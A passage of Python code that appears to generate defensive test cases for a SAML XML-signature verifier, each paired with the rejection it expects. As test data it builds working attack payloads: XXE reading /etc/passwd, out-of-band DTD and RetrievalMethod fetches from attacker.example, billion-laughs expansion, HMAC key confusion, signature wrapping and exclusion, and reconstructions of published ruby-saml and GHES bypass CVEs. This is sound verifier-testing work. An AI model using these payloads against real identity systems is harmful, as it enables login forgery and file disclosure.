                                                    "http://www.w3.org/2002/06/xmldsig-filter2"})
                        x.set("Filter", "subtract")
                        x.text = "//*[local-name()='Signature']"
            return fn

        TT = "threats.md §5 transforms not in the allow-list"
        for name, algs in (
                ("transforms_xslt", ["enveloped", "xslt"]),
                ("transforms_xpath", ["xpath", "exc"]),
                ("transforms_xpath_filter2", ["xpath2", "exc"]),
                ("transforms_base64", ["enveloped", "base64"]),
                ("transforms_exc_with_comments", ["enveloped", "exc-wc"]),
                ("transforms_inclusive_c14n", ["enveloped", "c14n"]),
                ("transforms_c14n11", ["enveloped", "c14n11"]),
                ("transforms_missing_enveloped", ["exc"]),
                ("transforms_only_enveloped", ["enveloped"]),
                ("transforms_reversed", ["exc", "enveloped"]),
                ("transforms_extra_exc", ["enveloped", "exc", "exc"]),
                ("transforms_enveloped_twice", ["enveloped", "enveloped", "exc"]),
                ("transforms_50", ["enveloped"] + ["exc"] * 49),
                ("transforms_empty_list", [])):
            mutate(name, set_transforms(algs), "signature_transform_unsupported", TT, "V9",
                   "Transforms replaced by [%s] (SignedInfo modified, so the RSA check would "
                   "fail too: the transform must be refused before it is executed)"
                   % ", ".join(algs))
        mutate("transforms_element_missing",
               lambda S, SI, A: transforms_el(SI).getparent().remove(transforms_el(SI)),
               "signature_malformed", TT, "V5", "Reference without <Transforms>")
        mutate("transforms_unknown_child_in_enveloped",
               lambda S, SI, A: etree.SubElement(transforms_el(SI)[0], q(NS_DS, "XPath")),
               "signature_malformed", TT, "V5",
               "enveloped-signature Transform with an XPath child")
        # the IdP really signed with these (valid under xmlsec1): pure policy rejections
        for name, kw, expect in (
                ("transforms_exc_with_comments_idp_signed",
                 dict(transforms=("enveloped", "exc-wc")), "signature_transform_unsupported"),
                ("transforms_inclusive_c14n_idp_signed",
                 dict(transforms=("enveloped", "c14n")), "signature_transform_unsupported"),
                ("c14n_method_exc_with_comments_idp_signed", dict(c14n_alg="exc-wc"),
                 "signature_algorithm_unsupported"),
                ("c14n_method_inclusive_idp_signed", dict(c14n_alg="c14n"),
                 "signature_algorithm_unsupported"),
                ("c14n_method_c14n11_idp_signed", dict(c14n_alg="c14n11"),
                 "signature_algorithm_unsupported"),
                ("signature_method_rsa_sha224_idp_signed", dict(sig_alg="rsa-sha224"),
                 "signature_algorithm_unsupported"),
                ("digest_method_sha224_idp_signed", dict(digest_alg="sha224"),
                 "signature_algorithm_unsupported"),
                ("digest_method_md5_idp_signed", dict(digest_alg="md5"),
                 "signature_algorithm_unsupported")):
            doc = build(name, **kw)
            self.add(name, "attack", "threats.md §5/§7.3 algorithm allow-list (IdP-signed)", "V9",
                     expect, self.S.sign_doc(doc, pretty=True),
                     description="the IdP signed with %s; the signature is valid under xmlsec1 "
                     "but the algorithm is not on the allow-list" % kw)
        TA = "threats.md §7.3 algorithm confusion / downgrade"

        def set_alg(path, alg):
            def fn(S, SI, A):
                SI.find(".//" + q(NS_DS, path)).set("Algorithm", alg)
            return fn

        for name, path, alg in (
                ("c14n_method_unknown", "CanonicalizationMethod", "urn:example:c14n"),
                ("c14n_method_empty", "CanonicalizationMethod", ""),
                ("signature_method_ecdsa_sha256", "SignatureMethod", ALG["ecdsa-sha256"]),
                ("signature_method_rsa_pss", "SignatureMethod", ALG["rsa-pss"]),
                ("signature_method_rsa_md5", "SignatureMethod", ALG["rsa-md5"]),
                ("signature_method_unknown", "SignatureMethod", "urn:example:none"),
                ("signature_method_empty", "SignatureMethod", ""),
                ("signature_method_case_changed", "SignatureMethod",
                 "http://www.w3.org/2001/04/xmldsig-more#RSA-SHA256"),
                ("signature_method_trailing_space", "SignatureMethod", ALG["rsa-sha256"] + " "),
                ("signature_method_hmac_sha256_no_key", "SignatureMethod", ALG["hmac-sha256"]),
                ("digest_method_unknown", "DigestMethod", "urn:example:digest"),
                ("digest_method_case_changed", "DigestMethod",
                 "http://www.w3.org/2001/04/xmlenc#SHA256"),
                ("digest_method_sha512_uri_typo", "DigestMethod",
                 "http://www.w3.org/2001/04/xmldsig-more#sha512")):
            mutate(name, set_alg(path, alg), "signature_algorithm_unsupported", TA, "V9",
                   "%s Algorithm=%r" % (path, alg))
        mutate("digest_method_sha512_with_sha256_value",
               set_alg("DigestMethod", ALG["sha512"]), "signature_invalid", TA, "V9",
               "DigestMethod changed to sha512 while the DigestValue is a sha256 digest: the "
               "algorithm is allowed, the modified SignedInfo fails the RSA check")
        mutate("signature_method_missing_algorithm",
               lambda S, SI, A: SI.find(".//" + q(NS_DS, "SignatureMethod")).attrib.pop(
                   "Algorithm"), "signature_malformed", TA, "V9",
               "SignatureMethod without Algorithm")
        # HMAC key confusion: HMAC keyed with the public certificate bytes (xmlsec1 --hmackey)
        for name, alg, keybytes in (("hmac_sha256_keyed_with_cert_pem", "hmac-sha256", "pem"),
                                    ("hmac_sha1_keyed_with_cert_der", "hmac-sha1", "der")):
            doc = build(name, sig_alg=alg, nameid=VICTIM)
            with tempfile.TemporaryDirectory() as tmp:
                kf = os.path.join(tmp, "k")
                with open(kf, "wb") as f:
                    f.write(self.km.pem_bytes("idp") if keybytes == "pem"
                            else base64.b64decode(self.km.der_b64["idp"]))
                data = self.S.sign_doc(doc, pretty=True, verify=False, hmac_key=kf)
            self.add(name, "attack", "threats.md §7.3 HMAC key confusion", "V9",
                     "signature_algorithm_unsupported", data,
                     description="%s signature computed with the IdP certificate's %s bytes as "
                     "the HMAC key (xmlsec1 --hmackey)" % (alg, keybytes.upper()))

        def hmac_output_length(S, SI, A):
            sm = SI.find(".//" + q(NS_DS, "SignatureMethod"))
            sm.set("Algorithm", ALG["hmac-sha1"])
            etree.SubElement(sm, q(NS_DS, "HMACOutputLength")).text = "0"
        mutate("hmac_output_length_0", hmac_output_length, "signature_algorithm_unsupported", TA,
               "V9", "hmac-sha1 with HMACOutputLength 0 (CVE-2009-0217)")

    def prefixlist_games(self):
        """§6.7: xs used only inside xsi:type values and declared only on the Response."""
        name = "okta_assertion_signed_xs_declared_on_response_only"
        doc = build(name, "okta", sign="assertion")
        doc.assertion.set("xmlns:xs", None)
        data = self.S.sign_doc(doc, pretty=True)
        self.add(name, "legit", "threats.md §6.7 / §11.4 PrefixList=\"xs\" with xs declared on "
                 "an unsigned ancestor", "V13", "valid", data, config=CFG_OKTA,
                 identity=doc.identity,
                 description="the assertion is signed with PrefixList=\"xs\"; xmlns:xs is "
                 "declared only on the (unsigned) Response, so exc-c14n pulls it in")
        evil = self.splice(data, 'xmlns:xs="%s"' % NS_XS, 'xmlns:xs="http://evil.example/xs"')
        self.add("okta_xs_rebound_on_unsigned_response", "attack",
                 "threats.md §6.7 PrefixList prefix re-bound on an unsigned ancestor", "V13",
                 "digest_mismatch", evil, config=CFG_OKTA,
                 description="the attacker re-binds xmlns:xs on the unsigned Response; the "
                 "PrefixList makes the declaration part of the signed assertion's canonical form")

    # -- §7.1 signature exclusion, V5 shape -----------------------------------------------------

    def exclusion_and_shape(self):
        BAK = "entra2021_assertion_signed_compact"
        BA, BR, BB = ("entra2021_assertion_signed_compact_no_keyinfo", "entra2021_response_signed_compact",
                      "entra2021_both_signed_compact")
        TX = "threats.md §7.1 signature exclusion"
        TS = "threats.md §0 V5/V16 signature shape"

        def case(name, base, fn, expect, threat, inv, desc):
            tree, prolog, R, A = self.derive(base)
            fn(R, A)
            self.add(name, "attack", threat, inv, expect, serialize(tree, prolog),
                     description=desc)

        case("signature_removed_assertion_modified", BA,
             lambda R, A: (detach(sig_of(A)), make_evil(A)), "signature_missing", TX, "V4",
             "the assertion's Signature deleted and the assertion modified")
        case("signature_removed_both", BB,
             lambda R, A: (detach(sig_of(A)), detach(sig_of(R)), make_evil(A)),
             "signature_missing", TX, "V4", "both signatures deleted, assertion modified")
        case("signature_removed_response_only_signed", BR,
             lambda R, A: (detach(sig_of(R)), make_evil(A)), "signature_missing", TX, "V4",
             "Response-signed document: the Response Signature deleted, unsigned assertion "
             "modified")
        case("signature_removed_assertion_of_both", BB,
             lambda R, A: (detach(sig_of(A)), make_evil(A)), "digest_mismatch", TX, "V8",
             "both signed: the assertion's Signature deleted and the assertion modified; the "
             "Response signature still covers it")

        def empty_sig(R, A):
            S = sig_of(A)
            for c in list(S):
                S.remove(c)
            S.text = None
        case("signature_empty_element", BA, empty_sig, "signature_malformed", TX, "V16",
             "<Signature/> with no children")

        def clear(local, drop=False):
            def fn(R, A):
                el = sig_of(A).find(".//" + q(NS_DS, local))
                if drop:
                    detach(el)
                else:
                    for c in list(el):
                        el.remove(c)
                    el.text = None
            return fn
        case("signature_value_empty", BA, clear("SignatureValue"), "signature_malformed", TX,
             "V16", "empty SignatureValue")
        case("signature_value_missing", BA, clear("SignatureValue", True), "signature_malformed",
             TX, "V16", "SignatureValue element missing (goxmldsig CVE-2020-7711)")
        case("digest_value_empty", BA, clear("DigestValue"), "signature_malformed", TX, "V16",
             "empty DigestValue")
        case("digest_value_missing", BA, clear("DigestValue", True), "signature_malformed", TX,
             "V16", "DigestValue element missing")
        case("signed_info_missing", BA, clear("SignedInfo", True), "signature_malformed", TX,
             "V16", "SignedInfo missing (xml-crypto invalid_saml_no_signed_info)")

        def ws_only(R, A):
            el = sig_of(A).find(".//" + q(NS_DS, "SignatureValue"))
            el.text = "\n   "
            el.append(etree.Comment(" no value "))
        case("signature_value_whitespace_and_comment", BA, ws_only, "signature_malformed", TX,
             "V16", "SignatureValue holding only whitespace and a comment")

        def obj(R, A):
            o = new_el(sig_of(A), q(NS_DS, "Object"))
            o.text = "harmless"
        case("signature_with_object", BA, obj, "signature_malformed", TS, "V5",
             "ds:Object (no assertion inside) appended to the Signature; digest unaffected")

        def unknown_child(R, A):
            new_el(sig_of(A), "{urn:example:x}Extra", nsmap={"x": "urn:example:x"})
        case("signature_unknown_child", BA, unknown_child, "signature_malformed", TS, "V5",
             "foreign element appended to the Signature")

        def keyinfo_first(R, A):
            S = sig_of(A)
            ki = kids(S, NS_DS, "KeyInfo")[0]
            S.remove(ki)
            kids(S, NS_DS, "SignedInfo")[0].addnext(ki)
        case("signature_keyinfo_before_signature_value", BAK, keyinfo_first,
             "signature_malformed", TS, "V5", "Signature children SignedInfo, KeyInfo, "
             "SignatureValue")

        def sv_first(R, A):
            S = sig_of(A)
            sv = kids(S, NS_DS, "SignatureValue")[0]
            S.remove(sv)
            S.insert(0, sv)
        case("signature_value_before_signed_info", BA, sv_first, "signature_malformed", TS,
             "V5", "SignatureValue before SignedInfo")

        def two_keyinfo(R, A):
            S = sig_of(A)
            S.append(copy.deepcopy(kids(S, NS_DS, "KeyInfo")[0]))
        case("signature_two_keyinfo", BAK, two_keyinfo, "signature_malformed", TS, "V5",
             "two KeyInfo elements")

        def si_extra(R, A):
            SI = kids(sig_of(A), NS_DS, "SignedInfo")[0]
            etree.SubElement(SI, q(NS_DS, "Object"))
        case("signed_info_extra_child", BA, si_extra, "signature_malformed", TS, "V5",
             "SignedInfo with an extra ds:Object child")

        def si_order(R, A):
            SI = kids(sig_of(A), NS_DS, "SignedInfo")[0]
            sm = kids(SI, NS_DS, "SignatureMethod")[0]
            SI.remove(sm)
            SI.insert(0, sm)
        case("signed_info_children_reordered", BA, si_order, "signature_malformed", TS, "V5",
             "SignatureMethod before CanonicalizationMethod")

        def si_no_c14n(R, A):
            SI = kids(sig_of(A), NS_DS, "SignedInfo")[0]
            detach(kids(SI, NS_DS, "CanonicalizationMethod")[0])
        case("signed_info_without_c14n_method", BA, si_no_c14n, "signature_malformed", TS, "V5",
             "SignedInfo without CanonicalizationMethod")

        data = self.splice(self.base("entra2014_assertion_signed_compact"),
                           '<ds:Reference URI=', '<ds:Reference xmlns:ds="http://evil.example/" '
                           'URI=')
        self.add("signed_info_reference_prefix_rebound", "attack",
                 "threats.md §6.7 prefix rebinding inside signed content", "V5",
                 "signature_malformed", data,
                 description="ds: re-declared to another URI on ds:Reference, so SignedInfo's "
                 "third child is not a dsig Reference")
        # signature value that is not base64
        case("signature_value_not_base64", BA,
             lambda R, A: setattr(sig_of(A).find(".//" + q(NS_DS, "SignatureValue")), "text",
                                  "this is !!! not base64"),
             "signature_malformed", TS, "V16", "SignatureValue text is not base64")

    # -- §7.2 keys and KeyInfo ------------------------------------------------------------------

    def keys_and_keyinfo(self):
        BA = "entra2021_assertion_signed_compact"
        T = "threats.md §7.2 certificate faking / trusting KeyInfo (%s)"

        def evil_base():
            tree, prolog, R, A = self.derive(BA)
            make_evil(A)
            return serialize(tree, prolog)

        def set_keyinfo(data, inner):
            tree, prolog, R, A = parse(data) + (None, None)
            R = tree.getroot()
            A = the_assertion(R)
            ki = kids(sig_of(A), NS_DS, "KeyInfo")[0]
            for c in list(ki):
                ki.remove(c)
            for el in inner:
                ki.append(el)
            return serialize(tree, prolog)

        def x509(*names, text=None):
            xd = etree.Element(q(NS_DS, "X509Data"), nsmap={None: NS_DS})
            for n in names:
                etree.SubElement(xd, q(NS_DS, "X509Certificate")).text = self.km.der_b64[n]
            if text is not None:
                etree.SubElement(xd, q(NS_DS, "X509Certificate")).text = text
            return xd

        def ds(local, text=None, **attrs):
            el = etree.Element(q(NS_DS, local), nsmap={None: NS_DS})
            el.text = text
            for k, v in attrs.items():
                el.set(k, v)
            return el

        signed_by_attacker = self.resign(evil_base(), key="attacker", cert="attacker")
        signed_by_clone = self.resign(evil_base(), key="attacker", cert="attacker-clone")
        kv = etree.fromstring(
            '<KeyValue xmlns="%s"><RSAKeyValue><Modulus>%s</Modulus><Exponent>AQAB</Exponent>'
            '</RSAKeyValue></KeyValue>' % (NS_DS, base64.b64encode(
                self.km.rsa["attacker.crt"].n.to_bytes(256, "big")).decode()))
        der_kv = etree.Element(q(NS_DSIG11, "DEREncodedKeyValue"), nsmap={"dsig11": NS_DSIG11})
        der_kv.text = self.km.spki_b64["attacker.key"]
        for name, data, expect, desc in (
                ("keyinfo_attacker_cert", set_keyinfo(signed_by_attacker, [x509("attacker")]),
                 "signature_invalid", "(a) attacker's self-signed certificate in X509Certificate"),
                ("keyinfo_cloned_idp_cert", set_keyinfo(signed_by_clone,
                                                        [x509("attacker-clone")]),
                 "signature_invalid", "(b) clone of the IdP certificate (same subject, issuer, "
                 "serial, validity) with the attacker's key"),
                ("keyinfo_keyvalue_attacker", set_keyinfo(signed_by_attacker, [kv]),
                 "signature_invalid", "(c) only KeyValue/RSAKeyValue of the attacker key"),
                ("keyinfo_der_encoded_keyvalue_attacker", set_keyinfo(signed_by_attacker,
                                                                      [der_kv]),
                 "signature_invalid", "(d) dsig11:DEREncodedKeyValue of the attacker key"),
                ("keyinfo_real_idp_cert_attacker_signature", set_keyinfo(
                    signed_by_attacker, [x509("idp")]),
                 "signature_invalid", "(e) the real IdP certificate in KeyInfo, attacker "
                 "signature"),
                ("keyinfo_chain_attacker_then_idp", set_keyinfo(signed_by_attacker,
                                                                [x509("attacker", "idp")]),
                 "signature_invalid", "(f) X509Data with attacker and IdP certificates"),
                ("keyinfo_keyname_idp", set_keyinfo(signed_by_attacker, [
                    ds("KeyName", "Microsoft Azure Federated SSO Certificate")]),
                 "signature_invalid", "(g) KeyName naming the IdP, attacker signature"),
                ("keyinfo_retrieval_method_attacker", set_keyinfo(signed_by_attacker, [
                    ds("RetrievalMethod", URI="http://attacker.example/key.xml",
                       Type="http://www.w3.org/2000/09/xmldsig#X509Data")]),
                 "signature_invalid", "§7.4 RetrievalMethod to http://attacker.example with an "
                 "attacker signature; nothing may be fetched"),
                ("resigned_by_attacker_unmodified", set_keyinfo(
                    self.resign(self.base(BA), key="attacker", cert="attacker"),
                    [x509("attacker")]), "signature_invalid",
                 "unmodified document re-signed with the attacker key")):
            self.add(name, "attack", T % name.replace("keyinfo_", ""), "V10", expect, data,
                     description=desc)
        # KeyInfo is ignored: legit signature with odd KeyInfo content stays valid
        base = self.base(BA)
        for name, inner, desc in (
                ("keyinfo_ignored_retrieval_method", [ds(
                    "RetrievalMethod", URI="http://attacker.example/key.xml",
                    Type="http://www.w3.org/2000/09/xmldsig#X509Data")],
                 "§7.4 KeyInfo replaced by a RetrievalMethod to http://attacker.example; the "
                 "IdP signature is untouched, nothing may be fetched"),
                ("keyinfo_ignored_attacker_cert", [x509("attacker")],
                 "KeyInfo holds the attacker's certificate but the IdP signature is untouched"),
                ("keyinfo_ignored_garbage_cert", [x509(text="!!! not a certificate !!!")],
                 "X509Certificate is garbage; KeyInfo is not used"),
                ("keyinfo_ignored_encrypted_key", [etree.fromstring(
                    '<xenc:EncryptedKey xmlns:xenc="%s"><xenc:EncryptionMethod Algorithm="%s"/>'
                    '<xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData>'
                    '</xenc:EncryptedKey>' % (NS_XENC, NS_XENC + "rsa-oaep-mgf1p"))],
                 "§7.4 EncryptedKey in KeyInfo")):
            self.add(name, "attack", "threats.md §7.2/§7.4 KeyInfo is ignored", "V10", "valid",
                     set_keyinfo(base, inner), identity=self.ident(BA), description=desc)
        # weak key
        name = "weak_key_signed"
        doc = build(name)
        data = self.S.sign_doc(doc, pretty=True, key="weak")
        self.add(name, "attack", "threats.md §7.3 RSA key < 2048 bits", "V10",
                 "config_key_too_small", data, config={"idpCerts": ["weak.crt"]},
                 description="signed with a 1024-bit key whose certificate is configured: the "
                 "SP refuses to load it")
        self.add(name + "_idp_configured", "attack", "threats.md §7.3 RSA key < 2048 bits",
                 "V10", "signature_invalid", share=name, data=None,
                 description="signed with the 1024-bit key; only idp.crt configured")
        self.add("weak_key_configured_next_to_idp", "attack", "threats.md §7.3 RSA key < 2048 "
                 "bits", "V10", "config_key_too_small", share=BA, data=None,
                 config={"idpCerts": ["idp.crt", "weak.crt"]},
                 description="legit document, but a 1024-bit certificate is among the "
                 "configured ones")
        self.add("attacker_cert_configured_wrong_idp", "attack", "configuration control",
                 "V10", "signature_invalid", share=BA, data=None,
                 config={"idpCerts": ["attacker.crt"]},
                 description="legit document verified against another (2048-bit) certificate")
        self.add("keyinfo_id_attribute_unique", "attack", "threats.md §0 V6 ID-like attributes "
                 "(control)", "V6", "valid",
                 self.splice(base, "<KeyInfo>", '<KeyInfo Id="keyinfo-1">'),
                 identity=self.ident(BA), description="KeyInfo carries a unique Id attribute")

    # -- V4 signature placement -----------------------------------------------------------------

    def placement(self):
        BA = "entra2021_assertion_signed_compact_no_keyinfo"
        BAK = "entra2021_assertion_signed_compact"
        T = "threats.md §0 V4 signature location (%s)"

        def idp(name, where, sign="assertion", desc=""):
            doc = build(name, sign=sign)
            S = doc.sign_targets[0]
            parent = doc.assertion if sign == "assertion" else doc.resp
            parent.remove(S)
            if where == "last":
                parent.kids.append(S)
            elif where == "first":
                parent.kids.insert(0, S)
            elif where == "after_status":
                parent.insert_after(parent.child("Status"), S)
            elif where == "no_issuer":
                parent.remove(parent.child("Issuer"))
                parent.kids.insert(0, S)
            elif where == "after_subject":
                parent.insert_after(parent.child("Subject"), S)
            self.add(name, "attack", T % where, "V4", "signature_misplaced",
                     self.S.sign_doc(doc, pretty=True), description=desc +
                     " (the IdP signed it so; valid under xmlsec1)")

        idp("signature_last_child_idp_signed", "last",
            desc="enveloped assertion Signature as the assertion's last child (signxml default)")
        idp("signature_first_child_idp_signed", "first",
            desc="assertion Signature before the assertion's Issuer")
        idp("signature_after_subject_idp_signed", "after_subject",
            desc="assertion Signature after Subject")
        idp("response_signature_after_status_idp_signed", "after_status", sign="response",
            desc="Response Signature after Status")
        idp("response_signature_without_issuer_idp_signed", "no_issuer", sign="response",
            desc="Response without Issuer, Signature as first child")

        def case(name, fn, expect, desc, base=BA, inv="V4"):
            tree, prolog, R, A = self.derive(base)
            fn(R, A)
            self.add(name, "attack", T % name, inv, expect, serialize(tree, prolog),
                     description=desc)

        def two_in_a(R, A):
            sig_of(A).addnext(copy.deepcopy(sig_of(A)))
        case("signature_twice_in_assertion", two_in_a, "signature_misplaced",
             "a byte copy of the assertion Signature right after it")

        def decoy(where):
            def fn(R, A):
                d = copy.deepcopy(sig_of(A))
                if where == "status_detail":
                    new_el(kids(R, NS_P, "Status")[0], q(NS_P, "StatusDetail")).append(d)
                elif where == "extensions":
                    new_el(R, q(NS_P, "Extensions"), 1).append(d)
                elif where == "subject":
                    kids(A, NS_A, "Subject")[0].append(d)
                elif where == "keyinfo":
                    kids(sig_of(A), NS_DS, "KeyInfo")[0].append(d)
                elif where == "response_end":
                    R.append(d)
                elif where == "before_root":
                    pass
            return fn
        for where in ("status_detail", "extensions", "subject", "keyinfo", "response_end"):
            case("decoy_signature_in_" + where, decoy(where), "signature_misplaced",
                 "a copy of the valid assertion Signature placed in %s" % where,
                 base=BAK if where == "keyinfo" else BA)
        # wrong-namespace Signature as the only signature
        data = self.splice(self.base(BA), '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#">',
                           '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#evil">')
        self.add("signature_wrong_namespace_only", "attack",
                 "threats.md §6.7 look-alike Signature namespace", "V4", "signature_missing",
                 data, description="the only Signature is in the namespace "
                 "http://www.w3.org/2000/09/xmldsig#evil, so nothing is signed")
        data = self.splice(self.base("entra2014_assertion_signed_compact"),
                           'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"',
                           'xmlns:ds="http://www.w3.org/2000/09/xmldsig"')
        self.add("signature_ds_namespace_without_hash", "attack",
                 "threats.md §6.7 look-alike Signature namespace", "V4", "signature_missing",
                 data, description="ds: bound to http://www.w3.org/2000/09/xmldsig (no '#')")

    # -- §6 parser differentials, namespaces, DTDs ----------------------------------------------

    def parser_differentials(self):
        BA = "entra2021_assertion_signed_compact_no_keyinfo"
        base = self.base(BA)
        aid = the_assertion(etree.fromstring(base, PARSER)).get("ID")
        open_r = base.index(b"<samlp:Response")

        def with_prolog(doctype, data=base):
            return data[:open_r] + doctype.encode() + b"\n" + data[open_r:]

        TD = "threats.md §8.1 DTD / entities (%s)"
        nid = ">%s</NameID>" % USER
        for name, doctype, old, new, desc in (
                ("doctype_xxe_file", '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM '
                 '"file:///etc/passwd">]>', nid, ">&xxe;</NameID>", "XXE, &xxe; in NameID"),
                ("doctype_xxe_parameter_entity_oob", '<!DOCTYPE samlp:Response [<!ENTITY % p '
                 'SYSTEM "http://attacker.example/x.dtd"> %p;]>', None, None,
                 "out-of-band parameter entity"),
                ("doctype_external_subset", '<!DOCTYPE samlp:Response SYSTEM '
                 '"http://attacker.example/x.dtd">', None, None, "external DTD subset"),
                ("doctype_billion_laughs", '<!DOCTYPE samlp:Response [<!ENTITY lol "lol">'
                 + "".join('<!ENTITY lol%d "%s">' % (i, ("&lol%s;" % ("" if i == 1 else i - 1))
                                                     * 10) for i in range(1, 10)) + "]>",
                 ">Simon</AttributeValue>", ">&lol9;</AttributeValue>", "billion laughs"),
                ("doctype_internal_entity_nameid", '<!DOCTYPE samlp:Response [<!ENTITY a '
                 '"%s">]>' % VICTIM, nid, ">&a;</NameID>",
                 "internal entity used to build the NameID"),
                ("doctype_attlist_default_id", '<!DOCTYPE samlp:Response [<!ATTLIST Extensions '
                 'ID CDATA "%s">]>' % aid, None, None, "ATTLIST default ID"),
                ("doctype_attlist_default_xmlns", '<!DOCTYPE samlp:Response [<!ATTLIST Signature '
                 'xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#">]>', None, None,
                 "ATTLIST default xmlns"),
                ("doctype_attlist_default_recipient", '<!DOCTYPE samlp:Response [<!ATTLIST '
                 'SubjectConfirmationData Recipient CDATA "%s">]>' % ACS, ' Recipient="%s"' % ACS,
                 "", "ATTLIST default Recipient, Recipient removed from the document"),
                ("doctype_empty", "<!DOCTYPE samlp:Response>", None, None, "DOCTYPE with "
                 "nothing in it"),
                ("doctype_public_id", '<!DOCTYPE samlp:Response PUBLIC "-//X//DTD X//EN" '
                 '"x.dtd">', None, None, "PUBLIC identifier")):
            data = with_prolog(doctype)
            if old is not None:
                data = self.splice(data, old, new)
            self.add(name, "xml", TD % desc, "V2", "xml_doctype_forbidden", data,
                     description=desc)
        self.add("doctype_after_comment", "xml", TD % "after a comment", "V2",
                 "xml_doctype_forbidden",
                 with_prolog("<!-- c -->\n<!DOCTYPE samlp:Response>"))
        i = base.index(b"<samlp:Status>")
        self.add("doctype_inside_content", "xml", TD % "inside content", "V2",
                 "xml_doctype_forbidden", base[:i] + b"<!DOCTYPE x>" + base[i:],
                 description="<!DOCTYPE x> between Response children")
        self.add("doctype_after_root", "xml", TD % "after the root", "V2",
                 "xml_doctype_forbidden", base + b"\n<!DOCTYPE x>\n",
                 description="<!DOCTYPE x> after the root element")
        self.add("undefined_entity_in_nameid", "xml", "threats.md §8.1 entity ref without DTD",
                 "V2", "xml_undefined_entity", self.splice(base, nid, ">&foo;</NameID>"))
        self.add("undefined_entity_nbsp_in_attribute_value", "xml",
                 "threats.md §8.1 entity ref without DTD", "V2", "xml_undefined_entity",
                 self.splice(base, ">Simon</AttributeValue>", ">Simon&nbsp;</AttributeValue>"))
        self.add("undefined_entity_in_attribute", "xml", "threats.md §8.1 entity ref without "
                 "DTD", "V2", "xml_undefined_entity",
                 self.splice(base, 'Recipient="%s"' % ACS, 'Recipient="&acs;"'))

        # CVE-2025-25291 (DOCTYPE quote confusion round trip)
        tree, prolog, R, A = self.derive(BA)
        make_evil(A)
        M = serialize(tree)
        end = b"</samlp:Response>"
        M = M[:M.rindex(end)]
        Orig = base[open_r:base.rindex(end)]
        data = (b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n" + M + b"<![CDATA[-->\n" + Orig
                + b"<!--]]>-->\n" + end)
        self.add("cve_2025_25291_doctype_quote_confusion", "attack",
                 "threats.md §6.2 ruby-saml CVE-2025-25291", "V2", "xml_doctype_forbidden", data,
                 description="SYSTEM 'x\"><!--' literal; evil document M, the original hidden "
                 "in a CDATA section that another parser reads as markup")
        # CVE-2025-25292 (ATTLIST namespace default + void canonicalization)
        tree, prolog, R, A = self.derive(BA)
        S = sig_of(A)
        status = kids(R, NS_P, "Status")[0]
        sd = new_el(status, q(NS_P, "StatusDetail"))
        plain = etree.SubElement(sd, "Signature")
        for c in S:
            if isinstance(c.tag, str):
                plain.append(copy.deepcopy(c))
        make_evil(A)
        S.find(".//" + q(NS_DS, "DigestValue")).text = base64.b64encode(
            hashlib.sha256(b"").digest()).decode()
        data = serialize(tree)
        data = self.splice(data, b'<Assertion ', b'<Assertion xmlns:example="http://example.'
                           b'com\xc2\x80" ')
        data = (b'<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/'
                b'2000/09/xmldsig#" xmlns CDATA "block">]>\n' + data)
        self.add("cve_2025_25292_attlist_void_c14n", "attack",
                 "threats.md §6.3 ruby-saml CVE-2025-25292", "V2", "xml_doctype_forbidden", data,
                 description="ATTLIST gives an unprefixed Signature copy in StatusDetail the "
                 "dsig namespace; the assertion is modified, its DigestValue is sha256(\"\") and "
                 "it carries xmlns:example=\"http://example.com\\u0080\"")
        # same without the DOCTYPE: only the void-canonicalization part
        data2 = data[data.index(b"\n") + 1:]
        self.add("void_c14n_empty_digest", "attack", "threats.md §6.5 void canonicalization",
                 "V13", "xml_invalid_namespace", data2,
                 description="CVE-2025-25292 shape without the DOCTYPE: DigestValue = "
                 "sha256(\"\"), assertion carries an invalid namespace URI")
        # CVE-2025-23369 (entities inside ID attributes)
        tree, prolog, R, A = self.derive(BA)
        S = copy.deepcopy(sig_of(A))
        R.insert(R.index(kids(R, NS_A, "Issuer")[0]) + 1, S)
        obj = new_el(S, q(NS_DS, "Object"))
        C = copy.deepcopy(A)
        detach(sig_of(C))
        obj.append(C)
        C.set("ID", "BYPASSPLACEHOLDER")
        A.set("ID", aid + "ffff")
        detach(sig_of(A))
        R.set("ID", "IDVIAENTITYPLACEHOLDER")
        data = serialize(tree)
        data = self.splice(data, 'ID="IDVIAENTITYPLACEHOLDER"', 'ID="&idViaEntity;"')
        data = self.splice(data, 'ID="BYPASSPLACEHOLDER"', 'ID="&BypassIDUniqueness;%s"' % aid)
        data = ('<!DOCTYPE response [<!ENTITY idViaEntity "%s"><!ENTITY BypassIDUniqueness '
                '"&#x50;">]>\n' % aid).encode() + data
        self.add("cve_2025_23369_entity_ids", "attack",
                 "threats.md §6.6 GHES CVE-2025-23369 libxml2 ID/entity quirks", "V2",
                 "xml_doctype_forbidden", data)

        # void canonicalization / bad namespace URIs
        TV = "threats.md §6.5 void canonicalization"
        for name, decl, expect in (
                ("void_c14n_namespace_u0080", b'xmlns:example="http://example.com\xc2\x80"',
                 "xml_invalid_namespace"),
                ("void_c14n_relative_namespace", b'xmlns:x="relative/path"',
                 "xml_invalid_namespace"),
                ("void_c14n_namespace_digit", b'xmlns:x="1"', "xml_invalid_namespace"),
                ("void_c14n_raw_0x80_namespace", b'xmlns:example="http://example.com\x80"',
                 "xml_not_utf8")):
            data = self.splice(base, b"<Assertion ID=", b"<Assertion " + decl + b" ID=")
            self.add(name, "attack", TV, "V13", expect, data,
                     description="unused declaration %s on the signed assertion" % decl.decode(
                         errors="replace"))
        data = self.splice(base, b"<samlp:Status>", b'<x:Wrapper xmlns:x="urn:x"><y xmlns='
                           b'"relative"/></x:Wrapper><samlp:Status>')
        self.add("relative_default_namespace", "xml", TV, "V13", "xml_invalid_namespace", data,
                 description="xmlns=\"relative\" on an element in the unsigned Response")

        # attribute pollution
        TP = "threats.md §6.5 attribute pollution"
        tree, prolog, R, A = self.derive("entra2021_response_signed_compact")
        rid = R.get("ID")
        R.set("ID", "_attack")
        R.set(q(NS_P, "ID"), rid)
        make_evil(A)
        self.add("attr_pollution_response_samlp_id", "attack", TP, "V6",
                 "signature_reference_mismatch", serialize(tree, prolog),
                 description="<samlp:Response ID=\"_attack\" samlp:ID=\"<signed ID>\">, "
